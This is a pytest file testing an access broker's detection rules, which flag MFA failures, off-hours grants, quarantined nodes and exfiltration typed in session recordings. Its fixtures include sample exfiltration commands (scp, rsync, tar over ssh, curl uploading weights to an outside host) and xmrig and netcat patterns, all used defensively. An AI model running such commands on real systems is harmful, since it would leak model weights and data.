"""Detection rules: policy checks, what each rule finds, and the incremental runner.

The runner tests use a real store (whole schema, audit chain) and real recordings in
sudo_logsrvd's layout, indexed by the real indexer.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from broker.app import App
from broker.audit import writer
from broker.config.loader import load_settings
from broker.core.timeutil import to_text
from broker.detect.engine import AuditEvent, Detector, Recording, new_memory
from broker.policy.detection_rules import DEFAULT, Detection
from broker.policy.load import parse_policy
from broker.sessions.index import Indexer
from tests.unit.test_sessions_iolog import log_json, write_recording

REPO = Path(__file__).resolve().parents[2]
LAB_POLICY = (REPO / "tests" / "data" / "lab-policy.toml").read_text()
T0 = datetime(2026, 11, 23, 10, 0, 0, tzinfo=UTC)


def detection(extra: str) -> Detection:
    loaded, problems = parse_policy(LAB_POLICY + "\n" + extra, "policy.toml")
    assert not problems, problems
    assert loaded is not None
    return loaded.policy.detection


def problems_of(extra: str) -> list[str]:
    _, problems = parse_policy(LAB_POLICY + "\n" + extra, "policy.toml")
    return [f"{p.line}: {p.message}" for p in problems]


# ---------------------------------------------------------------- policy


def test_rule_errors_are_policy_errors_with_their_line() -> None:
    found = problems_of(
        "[detect.rules.exfiltration]\n"
        'patterns = ["scp (unclosed"]\n'
        "[detect.rules.mfa-failures]\n"
        "threshold = 0\n"
        'actions = ["alert", "end_session"]\n'
        "[detect.rules.site-rule]\n"
        'patterns = ["x"]\n'
    )
    text = "\n".join(found)
    assert "not a valid regular expression" in text
    assert "threshold = 0: expected 1 to 100000" in text
    assert "cannot end_session" in text
    assert "site-rule" in text and "needs a kind" in text
    first_line = len(LAB_POLICY.splitlines()) + 3
    assert any(f.startswith(f"{first_line}: ") for f in found), found


def test_a_pattern_matching_everything_or_unknown_zone_is_refused() -> None:
    text = "\n".join(
        problems_of(
            '[detect.rules.wide]\nkind = "session_match"\npatterns = [".*"]\n'
            '[detect.rules.off-hours]\ntimezone = "Mars/Olympus"\nusual_hours = "18-06"\n'
        )
    )
    assert "matches the empty string" in text
    assert "unknown time zone" in text
    assert "usual_hours" in text


def test_the_policy_tunes_builtins_and_adds_its_own() -> None:
    d = detection(
        "[detect.rules.software-install]\nenabled = false\n"
        "[detect.rules.mfa-failures]\nthreshold = 3\n"
        '[detect.rules.crypto-miner]\nkind = "session_match"\nseverity = "critical"\n'
        'patterns = ["xmrig"]\nactions = ["alert", "quarantine_node"]\n'
        '[detect.drift]\nexpected = ["/etc/cron.d/backup-*"]\n'
    )
    assert not d.rules["software-install"].enabled
    assert d.rules["mfa-failures"].threshold == 3
    assert d.rules["mfa-failures"].actions == DEFAULT.rules["mfa-failures"].actions
    assert d.rules["crypto-miner"].actions == ("alert", "quarantine_node")
    assert d.drift.expected == ("/etc/cron.d/backup-*",)


# ---------------------------------------------------------------- the rules


class Feed:
    def __init__(self, d: Detection = DEFAULT, **kw: Any) -> None:
        self.detector = Detector(d, new_memory(), **kw)
        self.seq = 0

    def event(
        self, action: str, target: str, at: datetime, *, actor: str = "unix:alice",
        outcome: str = "ok", **details: Any,
    ) -> list[str]:  # fmt: skip
        self.seq += 1
        event = AuditEvent(self.seq, at.timestamp(), actor, action, target, outcome, details)
        return [f.rule for f in self.detector.audit(event)]


def test_the_fifth_wrong_code_within_the_window_raises_one_alert() -> None:
    feed = Feed()
    rules = [
        feed.event("mfa.verify", "alice", T0 + timedelta(minutes=i), outcome="refused",
                   reason="wrong code")
        for i in range(7)
    ]  # fmt: skip
    assert rules == [[], [], [], [], ["mfa-failures"], [], []]  # once, then cooling down
    # An operator's reset starts the count afresh.
    reset = Feed()
    for i in range(4):
        reset.event("mfa.verify", "ivan", T0 + timedelta(seconds=i), outcome="refused",
                    reason="wrong code")  # fmt: skip
    reset.event("mfa.reset", "ivan", T0 + timedelta(seconds=5), actor="unix:root")
    assert reset.event("mfa.verify", "ivan", T0 + timedelta(seconds=6), outcome="refused",
                       reason="wrong code") == []  # fmt: skip
    # A lockout refusal is not a guess; codes spread over hours are not a burst.
    spread = Feed()
    for i in range(10):
        at = T0 + timedelta(hours=i)
        assert spread.event("mfa.verify", "bob", at, outcome="refused", reason="wrong code") == []
        assert spread.event("mfa.verify", "bob", at, outcome="refused", reason="locked") == []


def test_off_hours_needs_history_and_respects_usual_hours() -> None:
    feed = Feed(detection('[detect.rules.off-hours]\nmin_history = 3\nusual_hours = "08-18"\n'))
    for day in range(3):
        at = T0 + timedelta(days=day)  # 10:00 UTC
        assert feed.event("grant.issue", f"g{day}", at, user="carol", nodes="gpu01") == []
    assert feed.event("grant.issue", "g9", T0.replace(hour=16), user="carol", nodes="gpu01") == []
    night = T0.replace(hour=3) + timedelta(days=5)
    assert feed.event("grant.issue", "gx", night, user="carol", nodes="gpu01") == ["off-hours"]


def test_many_nodes_counts_distinct_nodes_within_the_window() -> None:
    feed = Feed(detection("[detect.rules.many-nodes]\nthreshold = 4\n"))
    assert feed.event("grant.issue", "g1", T0, user="dave", nodes="gpu[01-02]") == []
    assert feed.event("grant.issue", "g2", T0 + timedelta(hours=1), user="dave",
                      nodes="gpu[03-04]") == []  # fmt: skip
    assert feed.event("grant.issue", "g3", T0 + timedelta(hours=1, minutes=5), user="dave",
                      nodes="gpu[05-06]") == ["many-nodes"]  # fmt: skip


def test_a_new_node_or_terminal_kind_alerts_after_the_history() -> None:
    feed = Feed(detection("[detect.rules.new-origin]\nmin_history = 2\n"))

    def open_(node: str, tty: str, minutes: int) -> list[str]:
        return feed.event("session.open", "g1", T0 + timedelta(minutes=minutes),
                          actor=f"node:{node}", user="erin", tty=tty, pid=100 + minutes)  # fmt: skip

    assert open_("gpu01", "pts/1", 0) == []
    assert open_("gpu01", "pts/7", 1) == []  # same kind of terminal
    assert open_("gpu02", "pts/2", 2) == ["new-origin"]
    assert open_("gpu02", "unknown", 3) == ["new-origin"]
    assert open_("gpu02", "unknown", 4) == []


def test_sudo_without_grant_and_sessions_on_a_quarantined_node() -> None:
    feed = Feed(quarantined={"gpu02"}, exempt_users={"ivan"})
    at = [T0 + timedelta(seconds=i) for i in range(4)]
    denies = [feed.event("session.deny", "-", t, actor="node:gpu01", user="frank") for t in at]
    assert denies == [[], [], ["sudo-without-grant"], []]
    # Refused by an unreachable log server under a valid grant: an outage, never counted.
    outage = [
        feed.event("session.deny", "g1", t, actor="node:gpu01", user="grace", reason="log_server")
        for t in at
    ]
    assert outage == [[], [], [], []]
    assert feed.event("session.open", "g1", T0, actor="node:gpu02", user="alice", tty="pts/1",
                      pid=7) == ["quarantined-session"]  # fmt: skip
    assert feed.event("session.open", "g2", T0, actor="node:gpu02", user="ivan", tty="pts/1",
                      pid=8) == []  # fmt: skip
    feed.event("node.release", "gpu02", T0, actor="unix:ivan")
    assert feed.event("session.open", "g1", T0, actor="node:gpu02", user="alice", tty="pts/1",
                      pid=9) == []  # fmt: skip


def test_a_command_typed_in_pieces_is_matched_as_one_line() -> None:
    detector = Detector(DEFAULT, new_memory())
    rec = Recording("00000A", "gpu01", "alice", "g0123456789abcdef")
    carry = b""
    found = []
    for piece in (b"s", b"cp /data/check", b"points/llama-70b.pt backup@elsewhere:", b"\r"):
        hits, carry = detector.stream(rec, "input", piece, carry, T0.timestamp(), 0)
        found.extend(hits)
    assert [f.rule for f in found] == ["exfiltration"]
    hit = found[0]
    assert hit.recording_id == "00000A" and hit.grant_id == "g0123456789abcdef"
    assert hit.details["excerpt"] == "scp /data/checkpoints/llama-70b.pt backup@elsewhere:"
    assert hit.actions == ("alert", "revoke_grants", "end_session")
    assert "llama" not in hit.message  # what was typed stays in the store, not in syslog
    quiet, _ = detector.stream(rec, "output", b"ls /data/checkpoints\n", b"", T0.timestamp(), 0)
    assert quiet == []


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        (b"rsync -a /data/datasets/imagenet remote:/x", "exfiltration"),
        (b"tar czf - /models/llama | ssh x 'cat > m.tgz'", "exfiltration"),
        (b"curl -T weights.bin https://paste.example", "exfiltration"),
        (b"apt-get -y install netcat", "software-install"),
        (b"pip install --user torch", "software-install"),
        (b"conda install -n base numpy", "software-install"),
        (b"dpkg -i tool.deb", "software-install"),
    ],
)
def test_builtin_patterns(line: bytes, rule: str) -> None:
    detector = Detector(DEFAULT, new_memory())
    rec = Recording("00000B", "gpu01", "alice", None)
    found, _ = detector.stream(rec, "input", line + b"\n", b"", T0.timestamp(), 0)
    assert [f.rule for f in found] == [rule]


# ---------------------------------------------------------------- the runner


@pytest.fixture
def app(broker_config: Path) -> App:
    built = App(load_settings(broker_config))
    built.settings.session_store.mkdir(parents=True)
    return built


def record(app: App, action: str, target: str, at: datetime, **kw: Any) -> None:
    details = kw.pop("details", {})
    with app.ready_store().transaction() as conn:
        writer.record(conn, writer.EventInput(kw.get("actor", "unix:alice"), action, target,
                                              kw.get("outcome", "ok"), details), at)  # fmt: skip


def alert_rows(app: App) -> list[tuple[Any, ...]]:
    return (
        app.ready_store()
        .conn.execute("SELECT rule, user, node, recording_id, actions FROM alerts ORDER BY id")
        .fetchall()
    )


def test_detection_starts_now_resumes_from_its_cursor_and_never_judges_twice(app: App) -> None:
    for _ in range(6):  # before detection ever ran: history, not judged
        record(app, "mfa.verify", "alice", T0, outcome="refused", details={"reason": "wrong code"})
    assert app.detection().run(T0).alerts == []
    for i in range(5):
        record(app, "mfa.verify", "bob", T0 + timedelta(seconds=i), outcome="refused",
               details={"reason": "wrong code", "sid": "S-1"})  # fmt: skip
    report = app.detection().run(T0 + timedelta(seconds=10))
    assert len(report.alerts) == 1
    assert alert_rows(app) == [("mfa-failures", "bob", None, None, '["alert", "lock_mfa"]')]
    conn = app.ready_store().conn
    actions = conn.execute("SELECT kind, target, state FROM alert_actions").fetchall()
    assert actions == [("lock_mfa", "bob", "pending")]
    raised = conn.execute(
        "SELECT details FROM audit_events WHERE action = 'alert.raise'"
    ).fetchall()
    assert json.loads(raised[0][0])["rule"] == "mfa-failures"
    # A restart (a new process) resumes after the last judged event, with its memory.
    app.close()
    again = App(app.settings)
    assert again.detection().run(T0 + timedelta(seconds=20)).alerts == []
    record(again, "mfa.verify", "bob", T0 + timedelta(seconds=30), outcome="refused",
           details={"reason": "wrong code"})  # fmt: skip
    assert again.detection().run(T0 + timedelta(seconds=31)).alerts == []  # cooling down, not again
    assert len(alert_rows(again)) == 1
    again.close()


def test_session_bytes_are_read_once_and_matches_name_the_session(app: App) -> None:
    app.detection().run(T0)  # detection begins
    root = app.settings.session_store
    path = write_recording(
        root,
        "000001",
        [("ttyout", 0.1, b"root@gpu01:~# "), ("ttyin", 0.5, b"ls\r")],
        log=log_json(user="alice", node="gpu01"),
        complete=False,
    )
    store = app.ready_store()
    Indexer(store, str(root)).run(T0 + timedelta(seconds=1))
    first = app.detection().run(T0 + timedelta(seconds=2))
    assert first.alerts == [] and first.recordings == 1 and first.bytes > 0
    # More typed later: only the new bytes are read, and the match names the session.
    with open(path / "ttyin", "ab") as f:
        f.write(b"scp /data/checkpoints/model.pt x@elsewhere:\r")
    second = app.detection().run(T0 + timedelta(seconds=3))
    assert second.bytes == len(b"scp /data/checkpoints/model.pt x@elsewhere:\r")
    assert alert_rows(app) == [
        ("exfiltration", "alice", "gpu01", "000001", '["alert", "revoke_grants", "end_session"]')
    ]
    kinds = store.conn.execute("SELECT kind, target FROM alert_actions ORDER BY id").fetchall()
    assert kinds == [("revoke_grants", "alice"), ("end_session", "gpu01:break-glass")]
    assert app.detection().run(T0 + timedelta(seconds=4)).bytes == 0


def test_drift_jobs_follow_grant_pushes_and_recorded_sessions(app: App) -> None:
    app.detection().run(T0)
    record(app, "grant.push", "g0123456789abcdef", T0, actor="broker",
           details={"live": "gpu[01-02]", "failed": {}})  # fmt: skip
    record(app, "session.recorded", "000002", T0, actor="node:gpu01",
           details={"grant": "g0123456789abcdef", "user": "alice"})  # fmt: skip
    record(app, "session.recorded", "000003", T0, actor="node:gpu01", details={"grant": None})
    assert app.detection().run(T0 + timedelta(seconds=1)).jobs == 3
    jobs = (
        app.ready_store()
        .conn.execute("SELECT kind, target, alert_id FROM alert_actions ORDER BY id")
        .fetchall()
    )
    assert jobs == [
        ("drift_baseline", "g0123456789abcdef@gpu01", None),
        ("drift_baseline", "g0123456789abcdef@gpu02", None),
        ("drift_check", "000002", None),
    ]
    assert to_text(T0)  # times are stored as UTC text


# ---------------------------------------------------------------- CLI and delivery


def test_root_without_a_directory_account_cannot_quarantine(daemon: Path) -> None:
    from tests.helpers import run_broker

    done = run_broker(
        "node", "quarantine", "gpu01", "--reason", "INC-1 test", config=daemon, stdin="123456\n"
    )
    assert done.returncode == 1
    assert "is not a usable directory account" in done.stderr
    listed = run_broker("alerts", "list", "--json", config=daemon)
    assert listed.returncode == 0 and json.loads(listed.stdout) == []
    bad = run_broker("alerts", "list", "--severity", "urgent", config=daemon)
    assert bad.returncode == 2 and "expected one of info, low" in bad.stderr


def test_the_webhook_never_carries_the_typed_line() -> None:
    from broker.detect.notify import AlertMessage, payload

    message = AlertMessage.from_row(
        (7, "2026-11-23T10:00:00.000000Z", None, "exfiltration", "critical", "alice", "gpu01",
         None, "00000A", "copying checkpoints off the node",
         json.dumps({"excerpt": "curl -u alice:hunter2 -T x", "stream": "input"}),
         json.dumps(["alert"]), "session:00000A:input:0", None, None, None)
    )  # fmt: skip
    body = payload(message)
    assert b"hunter2" not in body and b'"stream":"input"' in body


def test_patterns_that_cannot_be_combined_are_policy_errors() -> None:
    text = "\n".join(
        problems_of(
            '[detect.rules.miner]\nkind = "session_match"\npatterns = ["xmrig", "(?i)ethminer"]\n'
            '[detect.rules.echo]\nkind = "session_match"\npatterns = ["(a)\\\\1"]\n'
        )
    )
    assert "cannot be combined" in text and "(?i:...)" in text
    assert "back-references are not allowed" in text
    assert detection('[detect.rules.miner]\nkind = "session_match"\npatterns = ["(?i:XMRIG)"]\n')


def test_padding_a_line_does_not_hide_its_head() -> None:
    detector = Detector(DEFAULT, new_memory())
    rec = Recording("00000C", "gpu01", "alice", None)
    carry = b""
    found = []
    for piece in (b"rsync -a" + b" " * 5000, b" " * 5000, b"/data/checkpoints evil:\r"):
        hits, carry = detector.stream(rec, "input", piece, carry, T0.timestamp(), 0)
        found.extend(hits)
        assert len(carry) <= 4096
    assert [f.rule for f in found] == ["exfiltration"]


def test_a_pass_after_elevations_prunes_its_memory_and_moves_on(app: App) -> None:
    app.detection().run(T0)
    record(app, "grant.issue", "g1", T0, details={"user": "alice", "nodes": "gpu[01-02]"})
    record(app, "session.open", "g1", T0, actor="node:gpu01",
           details={"user": "alice", "tty": "pts/1", "pid": 42})  # fmt: skip
    first = app.detection().run(T0 + timedelta(seconds=1))
    assert first.events >= 2
    # Hours later the windows are pruned; detection goes on from its cursor.
    record(app, "session.open", "g1", T0 + timedelta(hours=5), actor="node:gpu02",
           details={"user": "alice", "tty": "pts/2", "pid": 43})  # fmt: skip
    later = app.detection().run(T0 + timedelta(hours=5, seconds=1))
    assert later.events >= 1
    assert app.detection().run(T0 + timedelta(hours=5, seconds=2)).events == 0


def test_a_session_the_indexer_gave_up_on_is_still_watched(app: App) -> None:
    app.detection().run(T0)
    root = app.settings.session_store
    path = write_recording(root, "000009", [("ttyin", 0.5, b"ls\r")],
                           log=log_json(user="dave", node="gpu02"), complete=False)  # fmt: skip
    store = app.ready_store()
    Indexer(store, str(root)).run(T0 + timedelta(seconds=1))
    app.detection().run(T0 + timedelta(seconds=2))
    with store.transaction() as conn:  # as the indexer marks an idle break-glass shell
        conn.execute("UPDATE recordings SET state = 'incomplete' WHERE id = '000009'")
    app.detection().run(T0 + timedelta(minutes=10))  # read to its end, but not forgotten
    with open(path / "ttyin", "ab") as f:
        f.write(b"tar czf /tmp/m.tgz /models/llama\r")
    app.detection().run(T0 + timedelta(minutes=30))
    assert [r[0] for r in alert_rows(app)] == ["exfiltration"]


def test_repeated_refusals_of_one_caller_alert_and_summaries_count() -> None:
    feed = Feed()
    hits = [
        feed.event("grant.refused", "gpu01", T0 + timedelta(seconds=i), actor="unix:bob",
                   outcome="refused", reason="bob may not elevate", user="bob")
        for i in range(6)
    ]  # fmt: skip
    assert hits == [[], [], [], [], ["repeated-refusals"], []]  # once, then cooling down
    finding = feed.detector.audit(
        AuditEvent(99, (T0 + timedelta(minutes=11)).timestamp(), "unix:bob", "approve.refused",
                   "r0123456789abcdef", "refused", {"approver": "bob"})
    )  # fmt: skip
    assert finding == []  # the window moved on: one refusal
    # A rate-limit summary stands for the refusals it counted.
    other = Feed()
    summary = other.event("request.refused", "-", T0, actor="krb:eve@HPC.TEST",
                          outcome="refused", suppressed=40)  # fmt: skip
    assert summary == ["repeated-refusals"]
    assert other.event("grant.issue", "g1", T0, outcome="ok", user="eve", nodes="gpu01") == []
    tuned = Feed(
        detection(
            '[detect.rules.repeated-refusals]\nthreshold = 2\nactions = ["alert", "lock_mfa"]\n'
        )
    )
    tuned.event("grant.refused", "gpu01", T0, actor="unix:bob", outcome="refused", user="bob")
    (found,) = tuned.detector.audit(
        AuditEvent(2, T0.timestamp(), "unix:bob", "grant.refused", "gpu01", "refused",
                   {"user": "bob"})
    )  # fmt: skip
    assert found.user == "bob" and found.actions == ("alert", "lock_mfa")
    assert problems_of('[detect.rules.repeated-refusals]\nactions = ["end_session"]\n')


def test_a_pass_of_another_runner_is_not_lost_to_a_cached_state(app: App) -> None:
    """Each runner keeps the state it committed; another process's commit must win (no
    event judged twice), and a reset clears the count (successful checks skipped in SQL)."""
    app.detection().run(T0)
    for i in range(4):  # one short of the threshold
        record(app, "mfa.verify", "bob", T0 + timedelta(seconds=i), outcome="refused",
               details={"reason": "wrong code"})  # fmt: skip
        record(app, "mfa.verify", "bob", T0 + timedelta(seconds=i), details={"purpose": "x"})
    assert app.detection().run(T0 + timedelta(seconds=5)).alerts == []
    other = App(app.settings)  # e.g. the daemon restarted while this one lingers
    record(other, "mfa.verify", "bob", T0 + timedelta(seconds=6), outcome="refused",
           details={"reason": "wrong code"})  # fmt: skip
    assert len(other.detection().run(T0 + timedelta(seconds=7)).alerts) == 1
    other.close()
    assert app.detection().run(T0 + timedelta(seconds=8)).alerts == []  # not judged again
    record(app, "mfa.reset", "bob", T0 + timedelta(seconds=9), actor="unix:root")
    for i in range(4):
        record(app, "mfa.verify", "bob", T0 + timedelta(minutes=11, seconds=i),
               outcome="refused", details={"reason": "wrong code"})  # fmt: skip
    assert app.detection().run(T0 + timedelta(minutes=12)).alerts == []  # 4 since the reset
    assert len(alert_rows(app)) == 1
